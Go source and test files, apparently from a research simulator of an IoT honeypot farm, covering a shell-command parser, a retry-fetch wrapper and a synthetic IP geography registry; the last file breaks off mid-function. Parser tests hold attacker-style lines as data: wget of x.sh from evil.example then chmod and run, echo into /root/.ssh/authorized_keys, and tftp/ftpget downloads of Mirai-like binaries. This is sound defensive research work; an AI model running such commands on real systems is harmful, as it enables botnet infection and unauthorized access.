func TestParseSimple(t *testing.T) {
	cmds := Parse("uname -a")
	if len(cmds) != 1 {
		t.Fatalf("len = %d", len(cmds))
	}
	if cmds[0].Name != "uname" || len(cmds[0].Args) != 1 || cmds[0].Args[0] != "-a" {
		t.Errorf("cmd = %+v", cmds[0])
	}
	if cmds[0].Op != OpNone {
		t.Errorf("Op = %v", cmds[0].Op)
	}
}

func TestParseSeparators(t *testing.T) {
	cmds := Parse("cd /tmp; wget http://evil.example/x.sh && chmod 777 x.sh | cat || echo fail")
	if len(cmds) != 5 {
		t.Fatalf("len = %d: %+v", len(cmds), cmds)
	}
	wantOps := []Operator{OpSeq, OpAnd, OpPipe, OpOr, OpNone}
	wantNames := []string{"cd", "wget", "chmod", "cat", "echo"}
	for i, c := range cmds {
		if c.Op != wantOps[i] || c.Name != wantNames[i] {
			t.Errorf("cmd[%d] = %q op %v, want %q op %v", i, c.Name, c.Op, wantNames[i], wantOps[i])
		}
	}
}

func TestParseQuoting(t *testing.T) {
	cmds := Parse(`echo 'single; quoted | text' "double && quoted"`)
	if len(cmds) != 1 {
		t.Fatalf("quotes split command: %+v", cmds)
	}
	if cmds[0].Args[0] != "single; quoted | text" {
		t.Errorf("single-quoted arg = %q", cmds[0].Args[0])
	}
	if cmds[0].Args[1] != "double && quoted" {
		t.Errorf("double-quoted arg = %q", cmds[0].Args[1])
	}
}

func TestParseEscapes(t *testing.T) {
	cmds := Parse(`echo hello\ world`)
	if len(cmds[0].Args) != 1 || cmds[0].Args[0] != "hello world" {
		t.Errorf("escaped space: %+v", cmds[0].Args)
	}
}

func TestParseUnterminatedQuote(t *testing.T) {
	cmds := Parse(`echo 'unterminated`)
	if len(cmds) != 1 || cmds[0].Args[0] != "unterminated" {
		t.Errorf("unterminated quote: %+v", cmds)
	}
}

func TestParseRedirect(t *testing.T) {
	cmds := Parse("echo key > /root/.ssh/authorized_keys")
	if len(cmds) != 1 {
		t.Fatalf("len = %d", len(cmds))
	}
	r := cmds[0].Redirect
	if r == nil || r.Path != "/root/.ssh/authorized_keys" || r.Append {
		t.Errorf("redirect = %+v", r)
	}
	cmds = Parse("echo key >> file")
	if cmds[0].Redirect == nil || !cmds[0].Redirect.Append {
		t.Errorf("append redirect = %+v", cmds[0].Redirect)
	}
}

func TestParseBackgroundAsSeq(t *testing.T) {
	cmds := Parse("sleep 10 & echo done")
	if len(cmds) != 2 || cmds[0].Op != OpSeq {
		t.Errorf("background: %+v", cmds)
	}
}

func TestParseEmptySegments(t *testing.T) {
	cmds := Parse(";; ; echo x ;;")
	if len(cmds) != 1 || cmds[0].Name != "echo" {
		t.Errorf("empty segments: %+v", cmds)
	}
	if Parse("") != nil {
		t.Error("empty line should parse to nil")
	}
}

func TestSplitSegments(t *testing.T) {
	// The paper's Table 3 methodology: split at ';' and '|'.
	segs := SplitSegments(`cat /proc/cpuinfo; echo "a;b" | wc -l && uname`)
	want := []string{"cat /proc/cpuinfo", `echo "a;b"`, "wc -l", "uname"}
	if len(segs) != len(want) {
		t.Fatalf("segs = %q", segs)
	}
	for i := range want {
		if segs[i] != want[i] {
			t.Errorf("seg[%d] = %q, want %q", i, segs[i], want[i])
		}
	}
}

func TestCommandString(t *testing.T) {
	cmds := Parse("echo abc >> f")
	if got := cmds[0].String(); got != "echo abc >> f" {
		t.Errorf("String = %q", got)
	}
}

func TestExtractURIs(t *testing.T) {
	cases := []struct {
		line string
		want []string
	}{
		{"wget http://evil.example/bot.sh", []string{"http://evil.example/bot.sh"}},
		{"curl -O https://x.test/a", []string{"https://x.test/a"}},
		{"tftp -g -r mirai.arm 198.51.100.7", []string{"tftp://198.51.100.7/mirai.arm"}},
		{"tftp 198.51.100.7 -c get bot.mips", []string{"tftp://198.51.100.7/bot.mips"}},
		{"ftpget -u anonymous -p pass 203.0.113.9 local.bin remote.bin", []string{"ftp://203.0.113.9/remote.bin"}},
		{"scp user@203.0.113.9:/tmp/payload .", []string{"scp://user@203.0.113.9/tmp/payload"}},
		{"busybox wget http://evil.example/b", []string{"http://evil.example/b"}},
		{"uname -a", nil},
	}
	for _, c := range cases {
		cmds := Parse(c.line)
		got := ExtractURIs(cmds[0])
		if len(got) != len(c.want) {
			t.Errorf("ExtractURIs(%q) = %v, want %v", c.line, got, c.want)
			continue
		}
		for i := range got {
			if got[i] != c.want[i] {
				t.Errorf("ExtractURIs(%q)[%d] = %q, want %q", c.line, i, got[i], c.want[i])
			}
		}
	}
}

// Property: Parse never panics and every parsed command's name contains no
// separator characters.
func TestQuickParseRobust(t *testing.T) {
	f := func(line string) bool {
		for _, c := range Parse(line) {
			if strings.ContainsAny(c.Name, ";|&") {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: SplitSegments returns non-empty trimmed segments.
func TestQuickSplitSegments(t *testing.T) {
	f := func(line string) bool {
		for _, s := range SplitSegments(line) {
			if s == "" || s != strings.TrimSpace(s) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkParse(b *testing.B) {
	line := `cd /tmp; wget http://evil.example/x.sh && chmod 777 x.sh; ./x.sh | cat /proc/cpuinfo | grep name | wc -l`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Parse(line)
	}
}
