package shell

import (
	"hash/fnv"
	"time"
)

// RetryFetchOptions tunes RetryFetch. The zero value retries twice
// (three attempts total) with a 50ms base and 2s cap.
type RetryFetchOptions struct {
	// Attempts is the total number of tries, including the first.
	Attempts int
	// Seed drives the deterministic backoff jitter stream.
	Seed int64
	// Base and Max bound the exponential backoff between attempts.
	Base time.Duration
	Max  time.Duration
	// Sleep is called to wait between attempts; nil means time.Sleep.
	// Tests inject a recorder here.
	Sleep func(time.Duration)
}

// RetryFetch wraps a FetchFunc with bounded, deterministic retries so a
// transiently failing download does not lose the session's CMD+URI
// hash. The backoff for attempt k is min(Base<<k, Max) jittered into
// [d/2, d) by a splitmix64 stream keyed on (Seed, URI, attempt) — the
// same wait sequence every run, per the repo's determinism contract.
func RetryFetch(inner FetchFunc, opts RetryFetchOptions) FetchFunc {
	if inner == nil {
		return nil
	}
	if opts.Attempts <= 0 {
		opts.Attempts = 3
	}
	if opts.Base <= 0 {
		opts.Base = 50 * time.Millisecond
	}
	if opts.Max <= 0 {
		opts.Max = 2 * time.Second
	}
	sleep := opts.Sleep
	if sleep == nil {
		sleep = time.Sleep
	}
	return func(uri string) ([]byte, error) {
		var lastErr error
		for attempt := 0; attempt < opts.Attempts; attempt++ {
			if attempt > 0 {
				sleep(retryDelay(opts, uri, attempt-1))
			}
			b, err := inner(uri)
			if err == nil {
				return b, nil
			}
			lastErr = err
		}
		return nil, lastErr
	}
}

// retryDelay computes the jittered backoff after failed attempt k.
func retryDelay(opts RetryFetchOptions, uri string, k int) time.Duration {
	d := opts.Base
	for i := 0; i < k && d < opts.Max; i++ {
		d *= 2
	}
	if d > opts.Max {
		d = opts.Max
	}
	h := fnv.New64a()
	//lint:ignore error-discard hash.Hash.Write is documented to never fail
	_, _ = h.Write([]byte(uri))
	z := h.Sum64() ^ uint64(opts.Seed) ^ (uint64(k+1) * 0x9e3779b97f4a7c15)
	// splitmix64 finalizer.
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	z ^= z >> 31
	unit := float64(z>>11) / (1 << 53)
	return d/2 + time.Duration(float64(d/2)*unit)
}
