package geo

import (
	"math/rand"
	"net/netip"
	"testing"
	"testing/quick"
)

func testRegistry(t *testing.T) *Registry {
	t.Helper()
	return NewRegistry(Config{Seed: 1})
}

func TestRegistryDeterministic(t *testing.T) {
	a := NewRegistry(Config{Seed: 42})
	b := NewRegistry(Config{Seed: 42})
	if a.NumASes() != b.NumASes() {
		t.Fatalf("AS counts differ: %d vs %d", a.NumASes(), b.NumASes())
	}
	for i := range a.ases {
		if a.ases[i] != b.ases[i] {
			t.Fatalf("AS %d differs: %+v vs %+v", i, a.ases[i], b.ases[i])
		}
	}
}

func TestRegistryASCount(t *testing.T) {
	r := testRegistry(t)
	n := r.NumASes()
	// Target is ~17.7k (paper's client-AS population); the per-country floor
	// adds a small surplus.
	if n < 15000 || n > 21000 {
		t.Errorf("NumASes = %d, want ≈%d", n, DefaultASTotal)
	}
}

func TestLookupRoundTrip(t *testing.T) {
	r := testRegistry(t)
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 1000; i++ {
		ci := r.SampleCountry(rng)
		ip := r.SampleClientIP(rng, ci)
		loc, ok := r.Lookup(ip)
		if !ok {
			t.Fatalf("Lookup(%d) failed for sampled IP", ip)
		}
		if loc.Country != r.countries[ci].Code {
			t.Fatalf("Lookup country = %s, want %s", loc.Country, r.countries[ci].Code)
		}
		as, ok := r.ASByNumber(loc.ASN)
		if !ok || ip < as.Base || ip >= as.Base+as.Size {
			t.Fatalf("IP %d not inside AS %d range", ip, loc.ASN)
		}
	}
}

func TestLookupOutsidePool(t *testing.T) {
	r := testRegistry(t)
	if _, ok := r.Lookup(0); ok {
		t.Error("Lookup(0) should fail: below pool")
	}
	last := r.ases[len(r.ases)-1]
	if _, ok := r.Lookup(last.Base + last.Size); ok {
		t.Error("Lookup past last AS should fail")
	}
}

func TestSampleCountryDistribution(t *testing.T) {
	r := testRegistry(t)
	rng := rand.New(rand.NewSource(3))
	const n = 200000
	counts := make(map[string]int)
	for i := 0; i < n; i++ {
		counts[r.countries[r.SampleCountry(rng)].Code]++
	}
	// China should be ~31% (paper Section 7.1).
	cn := float64(counts["CN"]) / n
	if cn < 0.29 || cn > 0.33 {
		t.Errorf("CN share = %.3f, want ≈0.31", cn)
	}
	in := float64(counts["IN"]) / n
	if in < 0.07 || in > 0.11 {
		t.Errorf("IN share = %.3f, want ≈0.09", in)
	}
	us := float64(counts["US"]) / n
	if us < 0.06 || us > 0.10 {
		t.Errorf("US share = %.3f, want ≈0.08", us)
	}
}

func TestAddrConversion(t *testing.T) {
	a := netip.MustParseAddr("192.0.2.1")
	u := AddrToUint32(a)
	if got := Uint32ToAddr(u); got != a {
		t.Errorf("round trip = %v, want %v", got, a)
	}
}

func TestQuickAddrRoundTrip(t *testing.T) {
	f := func(ip uint32) bool {
		return AddrToUint32(Uint32ToAddr(ip)) == ip
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestRelation(t *testing.T) {
	de := Location{Country: "DE", Continent: Europe}
	fr := Location{Country: "FR", Continent: Europe}
	jp := Location{Country: "JP", Continent: Asia}
	if Relation(de, de) != SameCountry {
		t.Error("DE-DE should be same-country")
	}
	if Relation(de, fr) != SameContinent {
		t.Error("DE-FR should be same-continent")
	}
	if Relation(de, jp) != OtherContinent {
		t.Error("DE-JP should be other-continent")
	}
}

func TestDefaultPlacement(t *testing.T) {
	r := testRegistry(t)
	deps := DefaultPlacement(r, 1)
	if len(deps) != 221 {
		t.Fatalf("len(deps) = %d, want 221", len(deps))
	}
	countries := make(map[string]int)
	ases := make(map[uint32]bool)
	ips := make(map[uint32]bool)
	for _, d := range deps {
		countries[d.Country]++
		ases[d.ASN] = true
		if ips[d.IP] {
			t.Fatalf("duplicate honeypot IP %d", d.IP)
		}
		ips[d.IP] = true
		loc, ok := r.Lookup(d.IP)
		if !ok || loc.Country != d.Country || loc.ASN != d.ASN {
			t.Fatalf("deployment %s inconsistent with registry: %+v vs %+v", d.Name, d, loc)
		}
	}
	if len(countries) != 55 {
		t.Errorf("countries = %d, want 55", len(countries))
	}
	if len(ases) != 65 {
		t.Errorf("ASes = %d, want 65", len(ases))
	}
	if countries["CN"] != 0 {
		t.Error("the paper's farm has no deployment in China")
	}
	// US and SG host multiple honeypots; many countries host exactly one.
	if countries["US"] < 2 || countries["SG"] < 2 {
		t.Errorf("US=%d SG=%d, both should host multiple honeypots", countries["US"], countries["SG"])
	}
	singles := 0
	for _, n := range countries {
		if n == 1 {
			singles++
		}
	}
	if singles < 28 {
		t.Errorf("only %d countries host a single honeypot; most should", singles)
	}
}

func TestPlacementErrors(t *testing.T) {
	r := testRegistry(t)
	if _, err := Place(PlacementConfig{Registry: r, NumPots: 10, NumASes: 65}); err == nil {
		t.Error("expected error: fewer honeypots than countries")
	}
	if _, err := Place(PlacementConfig{Registry: r, NumPots: 221, NumASes: 10}); err == nil {
		t.Error("expected error: fewer ASes than countries")
	}
	if _, err := Place(PlacementConfig{NumPots: 221, NumASes: 65}); err == nil {
		t.Error("expected error: nil registry")
	}
	if _, err := Place(PlacementConfig{Registry: r, NumPots: 2, NumASes: 2, Countries: []string{"XX", "YY"}}); err == nil {
		t.Error("expected error: unknown country")
	}
}

func TestPlacementDeterministic(t *testing.T) {
	r := testRegistry(t)
	a := DefaultPlacement(r, 9)
	b := DefaultPlacement(r, 9)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("deployment %d differs", i)
		}
	}
}

func TestContinentString(t *testing.T) {
	if Asia.String() != "Asia" || NorthAmerica.String() != "North America" {
		t.Error("continent names wrong")
	}
	if Continent(99).String() == "" {
		t.Error("out-of-range continent should still format")
	}
}

func TestNetworkTypeString(t *testing.T) {
	for typ, want := range map[NetworkType]string{
		Residential: "residential", Datacenter: "datacenter",
		Enterprise: "enterprise", Mobile: "mobile",
	} {
		if typ.String() != want {
			t.Errorf("%d.String() = %q, want %q", typ, typ.String(), want)
		}
	}
}

func BenchmarkLookup(b *testing.B) {
	r := NewRegistry(Config{Seed: 1})
	rng := rand.New(rand.NewSource(2))
	ips := make([]uint32, 1024)
	for i := range ips {
		ips[i] = r.SampleClientIP(rng, -1)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, ok := r.Lookup(ips[i%len(ips)]); !ok {
			b.Fatal("lookup failed")
		}
	}
}

func BenchmarkSampleClientIP(b *testing.B) {
	r := NewRegistry(Config{Seed: 1})
	rng := rand.New(rand.NewSource(2))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		r.SampleClientIP(rng, -1)
	}
}

func TestASesInAndSampleASIP(t *testing.T) {
	r := testRegistry(t)
	ases := r.ASesIn("RU")
	if len(ases) == 0 {
		t.Fatal("RU should have ASes")
	}
	for _, as := range ases {
		if as.Country != "RU" {
			t.Errorf("AS %d country = %s", as.ASN, as.Country)
		}
	}
	if got := r.ASesIn("XX"); got != nil {
		t.Errorf("unknown country ASes = %v", got)
	}
	rng := rand.New(rand.NewSource(5))
	ip, ok := r.SampleASIP(rng, ases[0].ASN)
	if !ok || ip < ases[0].Base || ip >= ases[0].Base+ases[0].Size {
		t.Errorf("SampleASIP = %d ok=%v", ip, ok)
	}
	if _, ok := r.SampleASIP(rng, 999999); ok {
		t.Error("unknown ASN should fail")
	}
}

func TestCountryByCode(t *testing.T) {
	r := testRegistry(t)
	c, ok := r.CountryByCode("DE")
	if !ok || c.Name != "Germany" || c.Continent != Europe {
		t.Errorf("DE = %+v ok=%v", c, ok)
	}
	if _, ok := r.CountryByCode("ZZ"); ok {
		t.Error("unknown code should fail")
	}
}
