package geo

// worldCountries is the registry's country table. ClientWeight values are
// calibrated to the paper's reported client-origin shares (Section 7.1:
// China 31%, India 9%, US 8%, Russia 5%, Brazil 5%, Taiwan 5%, Mexico 3%,
// Iran 3%) with the remainder spread over a long tail that includes every
// country named anywhere in the paper's per-category breakdowns (Japan,
// Vietnam, Singapore, Germany, Sweden, Netherlands, France, Bulgaria,
// Romania, Italy, Canada, Lithuania, Switzerland, Saudi Arabia).
var worldCountries = []Country{
	{"CN", "China", Asia, 31.0},
	{"IN", "India", Asia, 9.0},
	{"US", "United States", NorthAmerica, 8.0},
	{"RU", "Russia", Europe, 5.0},
	{"BR", "Brazil", SouthAmerica, 5.0},
	{"TW", "Taiwan", Asia, 5.0},
	{"MX", "Mexico", NorthAmerica, 3.0},
	{"IR", "Iran", Asia, 3.0},
	{"JP", "Japan", Asia, 2.5},
	{"VN", "Vietnam", Asia, 2.5},
	{"SG", "Singapore", Asia, 2.0},
	{"KR", "South Korea", Asia, 2.0},
	{"DE", "Germany", Europe, 2.0},
	{"ID", "Indonesia", Asia, 1.8},
	{"TH", "Thailand", Asia, 1.3},
	{"NL", "Netherlands", Europe, 1.2},
	{"FR", "France", Europe, 1.2},
	{"GB", "United Kingdom", Europe, 1.1},
	{"AR", "Argentina", SouthAmerica, 1.0},
	{"TR", "Turkey", Asia, 1.0},
	{"UA", "Ukraine", Europe, 0.9},
	{"IT", "Italy", Europe, 0.9},
	{"EG", "Egypt", Africa, 0.8},
	{"PK", "Pakistan", Asia, 0.8},
	{"BD", "Bangladesh", Asia, 0.7},
	{"PH", "Philippines", Asia, 0.7},
	{"CO", "Colombia", SouthAmerica, 0.6},
	{"SE", "Sweden", Europe, 0.6},
	{"PL", "Poland", Europe, 0.6},
	{"ES", "Spain", Europe, 0.6},
	{"CA", "Canada", NorthAmerica, 0.6},
	{"BG", "Bulgaria", Europe, 0.5},
	{"RO", "Romania", Europe, 0.5},
	{"ZA", "South Africa", Africa, 0.5},
	{"MY", "Malaysia", Asia, 0.5},
	{"SA", "Saudi Arabia", Asia, 0.5},
	{"AU", "Australia", Oceania, 0.5},
	{"CL", "Chile", SouthAmerica, 0.4},
	{"PE", "Peru", SouthAmerica, 0.4},
	{"VE", "Venezuela", SouthAmerica, 0.4},
	{"NG", "Nigeria", Africa, 0.4},
	{"KE", "Kenya", Africa, 0.3},
	{"MA", "Morocco", Africa, 0.3},
	{"TN", "Tunisia", Africa, 0.2},
	{"DZ", "Algeria", Africa, 0.2},
	{"CH", "Switzerland", Europe, 0.3},
	{"AT", "Austria", Europe, 0.3},
	{"BE", "Belgium", Europe, 0.3},
	{"CZ", "Czechia", Europe, 0.3},
	{"HU", "Hungary", Europe, 0.3},
	{"GR", "Greece", Europe, 0.3},
	{"PT", "Portugal", Europe, 0.3},
	{"DK", "Denmark", Europe, 0.2},
	{"NO", "Norway", Europe, 0.2},
	{"FI", "Finland", Europe, 0.2},
	{"IE", "Ireland", Europe, 0.2},
	{"LT", "Lithuania", Europe, 0.2},
	{"LV", "Latvia", Europe, 0.15},
	{"EE", "Estonia", Europe, 0.15},
	{"SK", "Slovakia", Europe, 0.15},
	{"SI", "Slovenia", Europe, 0.1},
	{"HR", "Croatia", Europe, 0.1},
	{"RS", "Serbia", Europe, 0.2},
	{"IL", "Israel", Asia, 0.3},
	{"AE", "United Arab Emirates", Asia, 0.3},
	{"QA", "Qatar", Asia, 0.1},
	{"KW", "Kuwait", Asia, 0.1},
	{"JO", "Jordan", Asia, 0.1},
	{"LB", "Lebanon", Asia, 0.1},
	{"IQ", "Iraq", Asia, 0.2},
	{"KZ", "Kazakhstan", Asia, 0.2},
	{"UZ", "Uzbekistan", Asia, 0.1},
	{"MN", "Mongolia", Asia, 0.1},
	{"NP", "Nepal", Asia, 0.1},
	{"LK", "Sri Lanka", Asia, 0.1},
	{"MM", "Myanmar", Asia, 0.1},
	{"KH", "Cambodia", Asia, 0.1},
	{"LA", "Laos", Asia, 0.05},
	{"NZ", "New Zealand", Oceania, 0.1},
	{"FJ", "Fiji", Oceania, 0.02},
	{"EC", "Ecuador", SouthAmerica, 0.2},
	{"BO", "Bolivia", SouthAmerica, 0.1},
	{"PY", "Paraguay", SouthAmerica, 0.1},
	{"UY", "Uruguay", SouthAmerica, 0.1},
	{"CR", "Costa Rica", NorthAmerica, 0.1},
	{"PA", "Panama", NorthAmerica, 0.1},
	{"GT", "Guatemala", NorthAmerica, 0.1},
	{"DO", "Dominican Republic", NorthAmerica, 0.1},
	{"GH", "Ghana", Africa, 0.1},
	{"CI", "Ivory Coast", Africa, 0.05},
	{"SN", "Senegal", Africa, 0.05},
	{"TZ", "Tanzania", Africa, 0.05},
	{"UG", "Uganda", Africa, 0.05},
	{"ET", "Ethiopia", Africa, 0.05},
	{"AO", "Angola", Africa, 0.05},
	{"MZ", "Mozambique", Africa, 0.03},
	{"ZM", "Zambia", Africa, 0.03},
	{"CM", "Cameroon", Africa, 0.05},
}

// init rescales the long-tail weights (everything after the paper's eight
// named countries) so the table sums to exactly 100 and the named shares
// are true percentages: CN really is 31% of the population, IN 9%, etc.
func init() {
	const namedTop = 8
	var head, tail float64
	for i, c := range worldCountries {
		if i < namedTop {
			head += c.ClientWeight
		} else {
			tail += c.ClientWeight
		}
	}
	scale := (100 - head) / tail
	for i := namedTop; i < len(worldCountries); i++ {
		worldCountries[i].ClientWeight *= scale
	}
}

// HoneyfarmCountries lists the 55 countries hosting honeypots. The paper
// does not name them (ethics section) beyond noting that most countries
// host a single honeypot, that the US and Singapore host multiple, and
// that there is no deployment in China. This selection spans all six
// continents with a residential-network focus.
var HoneyfarmCountries = []string{
	"US", "SG", "DE", "JP", "GB", "FR", "NL", "BR", "IN", "AU",
	"CA", "IT", "ES", "SE", "PL", "RO", "BG", "CH", "AT", "BE",
	"CZ", "HU", "GR", "PT", "DK", "NO", "FI", "IE", "LT", "LV",
	"EE", "SK", "SI", "HR", "RS", "UA", "TR", "IL", "AE", "SA",
	"KR", "TW", "TH", "MY", "ID", "PH", "VN", "MX", "AR", "CL",
	"CO", "PE", "ZA", "KE", "NZ",
}
