// Package geo provides a deterministic synthetic Internet geography: a
// registry of countries, autonomous systems, and IPv4 prefix allocations
// with MaxMind-style lookups. The paper geolocated ~2.1M client IPs from
// 17.7k ASes with a commercial database; this registry substitutes a
// reproducible allocation with the same lookup interface, so that both
// honeypot placement and client-population analyses have a consistent
// IP → (country, continent, AS) mapping.
package geo

import (
	"fmt"
	"math/rand"
	"net/netip"
	"sort"
)

// Continent identifies one of the six populated continents.
type Continent uint8

// Continent values.
const (
	Africa Continent = iota
	Asia
	Europe
	NorthAmerica
	Oceania
	SouthAmerica
	numContinents
)

var continentNames = [...]string{"Africa", "Asia", "Europe", "North America", "Oceania", "South America"}

// String returns the continent's English name.
func (c Continent) String() string {
	if int(c) < len(continentNames) {
		return continentNames[c]
	}
	return fmt.Sprintf("Continent(%d)", uint8(c))
}

// Country describes one country in the registry.
type Country struct {
	Code      string // ISO 3166-1 alpha-2
	Name      string
	Continent Continent
	// ClientWeight is the relative share of the synthetic client population
	// originating in this country, calibrated to the paper's Figure 10
	// (China 31%, India 9%, US 8%, ...).
	ClientWeight float64
}

// NetworkType classifies the access type of an AS, used to bias honeypot
// placement toward residential networks as the paper's deployment did.
type NetworkType uint8

// NetworkType values.
const (
	Residential NetworkType = iota
	Datacenter
	Enterprise
	Mobile
)

func (t NetworkType) String() string {
	switch t {
	case Residential:
		return "residential"
	case Datacenter:
		return "datacenter"
	case Enterprise:
		return "enterprise"
	case Mobile:
		return "mobile"
	}
	return fmt.Sprintf("NetworkType(%d)", uint8(t))
}

// AS describes one autonomous system.
type AS struct {
	ASN     uint32
	Country string // ISO code, indexes Registry.Countries
	Type    NetworkType
	// prefix base and size: the AS owns IPs [Base, Base+Size).
	Base uint32
	Size uint32
}

// Location is the result of a lookup.
type Location struct {
	IP        netip.Addr
	Country   string
	Continent Continent
	ASN       uint32
	Type      NetworkType
}

// Registry is an immutable synthetic Internet: countries, ASes, and the
// prefix table mapping every allocatable IPv4 address to an AS. Build one
// with NewRegistry; it is safe for concurrent use afterwards.
type Registry struct {
	countries []Country
	byCode    map[string]int
	ases      []AS // sorted by Base
	asByASN   map[uint32]int
	// asesByCountry[i] lists indexes into ases for countries[i].
	asesByCountry [][]int
	cumWeight     []float64 // cumulative client weights for sampling
	totalWeight   float64
}

// Config controls registry construction.
type Config struct {
	// Seed drives all randomized allocation decisions.
	Seed int64
	// ASesPerCountryScale multiplies the default AS count per country.
	// The default (1.0) yields ≈17.7k ASes total, matching the paper's
	// observed client-AS population.
	ASesPerCountryScale float64
}

// DefaultASTotal is the approximate number of ASes at scale 1.0, matching
// the paper's "more than 17.7 thousand networks".
const DefaultASTotal = 17700

// NewRegistry builds the synthetic Internet. The same Config always yields
// the identical registry; all randomness derives from cfg.Seed. See
// NewRegistryRand to thread a caller-owned source.
func NewRegistry(cfg Config) *Registry {
	return NewRegistryRand(rand.New(rand.NewSource(cfg.Seed)), cfg)
}

// NewRegistryRand is NewRegistry with an explicit, caller-seeded random
// source — the form the determinism contract prefers, since it makes
// the entire draw sequence visible at the call site. cfg.Seed is
// ignored.
func NewRegistryRand(rng *rand.Rand, cfg Config) *Registry {
	if cfg.ASesPerCountryScale <= 0 {
		cfg.ASesPerCountryScale = 1.0
	}
	r := &Registry{
		countries: append([]Country(nil), worldCountries...),
		byCode:    make(map[string]int, len(worldCountries)),
		asByASN:   make(map[uint32]int),
	}
	for i, c := range r.countries {
		r.byCode[c.Code] = i
	}
	r.asesByCountry = make([][]int, len(r.countries))

	// Distribute ASes over countries proportionally to client weight with
	// a floor of 3 so every country has networks to place honeypots in.
	var wsum float64
	for _, c := range r.countries {
		wsum += c.ClientWeight
	}
	asn := uint32(1000)
	base := uint32(0x0a000000) // allocate from a synthetic pool starting at 10.0.0.0
	for i, c := range r.countries {
		n := int(float64(DefaultASTotal)*cfg.ASesPerCountryScale*c.ClientWeight/wsum + 0.5)
		if n < 3 {
			n = 3
		}
		for j := 0; j < n; j++ {
			// Heavy-tailed prefix sizes: a few /16-sized ASes, many /22-sized.
			var size uint32
			switch rng.Intn(10) {
			case 0:
				size = 1 << 16
			case 1, 2:
				size = 1 << 14
			default:
				size = 1 << 10
			}
			typ := Residential
			switch rng.Intn(10) {
			case 0, 1:
				typ = Datacenter
			case 2:
				typ = Enterprise
			case 3:
				typ = Mobile
			}
			idx := len(r.ases)
			r.ases = append(r.ases, AS{ASN: asn, Country: c.Code, Type: typ, Base: base, Size: size})
			r.asByASN[asn] = idx
			r.asesByCountry[i] = append(r.asesByCountry[i], idx)
			asn++
			base += size
		}
	}
	sort.Slice(r.ases, func(a, b int) bool { return r.ases[a].Base < r.ases[b].Base })
	// Rebuild indexes after the sort.
	r.asByASN = make(map[uint32]int, len(r.ases))
	for i := range r.asesByCountry {
		r.asesByCountry[i] = r.asesByCountry[i][:0]
	}
	for i, as := range r.ases {
		r.asByASN[as.ASN] = i
		ci := r.byCode[as.Country]
		r.asesByCountry[ci] = append(r.asesByCountry[ci], i)
	}
	r.cumWeight = make([]float64, len(r.countries))
	acc := 0.0
	for i, c := range r.countries {
		acc += c.ClientWeight
		r.cumWeight[i] = acc
	}
	r.totalWeight = acc
	return r
}

// Countries returns the registry's country table.
func (r *Registry) Countries() []Country { return r.countries }

// CountryByCode returns the country with the given ISO code.
func (r *Registry) CountryByCode(code string) (Country, bool) {
	i, ok := r.byCode[code]
	if !ok {
		return Country{}, false
	}
	return r.countries[i], true
}

// NumASes returns the total number of allocated ASes.
func (r *Registry) NumASes() int { return len(r.ases) }

// ASes returns the AS table, sorted by prefix base.
func (r *Registry) ASes() []AS { return r.ases }

// ASByNumber returns the AS with the given ASN.
func (r *Registry) ASByNumber(asn uint32) (AS, bool) {
	i, ok := r.asByASN[asn]
	if !ok {
		return AS{}, false
	}
	return r.ases[i], true
}

// Lookup maps an IPv4 address (as uint32) to its location. The second
// return is false for addresses outside the allocated pool.
func (r *Registry) Lookup(ip uint32) (Location, bool) {
	i := sort.Search(len(r.ases), func(i int) bool { return r.ases[i].Base > ip })
	if i == 0 {
		return Location{}, false
	}
	as := r.ases[i-1]
	if ip >= as.Base+as.Size {
		return Location{}, false
	}
	ci := r.byCode[as.Country]
	return Location{
		IP:        Uint32ToAddr(ip),
		Country:   as.Country,
		Continent: r.countries[ci].Continent,
		ASN:       as.ASN,
		Type:      as.Type,
	}, true
}

// LookupAddr maps a netip.Addr to its location.
func (r *Registry) LookupAddr(a netip.Addr) (Location, bool) {
	if !a.Is4() {
		return Location{}, false
	}
	return r.Lookup(AddrToUint32(a))
}

// SampleCountry draws a country index according to the client weights.
func (r *Registry) SampleCountry(rng *rand.Rand) int {
	x := rng.Float64() * r.totalWeight
	return sort.SearchFloat64s(r.cumWeight, x)
}

// SampleClientIP draws an IP from the given country, or from the global
// weight distribution when countryIdx is negative. Results are uniform
// within a random AS of the country.
func (r *Registry) SampleClientIP(rng *rand.Rand, countryIdx int) uint32 {
	if countryIdx < 0 {
		countryIdx = r.SampleCountry(rng)
	}
	list := r.asesByCountry[countryIdx]
	as := r.ases[list[rng.Intn(len(list))]]
	return as.Base + uint32(rng.Intn(int(as.Size)))
}

// ASesIn returns the ASes allocated to a country, or nil for unknown
// codes.
func (r *Registry) ASesIn(code string) []AS {
	i, ok := r.byCode[code]
	if !ok {
		return nil
	}
	out := make([]AS, len(r.asesByCountry[i]))
	for j, idx := range r.asesByCountry[i] {
		out[j] = r.ases[idx]
	}
	return out
}

// SampleASIP draws an IP from a specific AS.
func (r *Registry) SampleASIP(rng *rand.Rand, asn uint32) (uint32, bool) {
	i, ok := r.asByASN[asn]
	if !ok {
		return 0, false
	}
	as := r.ases[i]
	return as.Base + uint32(rng.Intn(int(as.Size))), true
}

// Uint32ToAddr converts a uint32 IPv4 value to netip.Addr.
func Uint32ToAddr(ip uint32) netip.Addr {
	return netip.AddrFrom4([4]byte{byte(ip >> 24), byte(ip >> 16), byte(ip >> 8), byte(ip)})
}

// AddrToUint32 converts an IPv4 netip.Addr to its uint32 value.
func AddrToUint32(a netip.Addr) uint32 {
	b := a.As4()
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
}

// SameRegion classifies the geographic relationship between two locations,
// used by the paper's "regional diversity" analysis (Figure 16).
type Region uint8

// Region relationship values.
const (
	SameCountry Region = iota
	SameContinent
	OtherContinent
)

func (g Region) String() string {
	switch g {
	case SameCountry:
		return "same-country"
	case SameContinent:
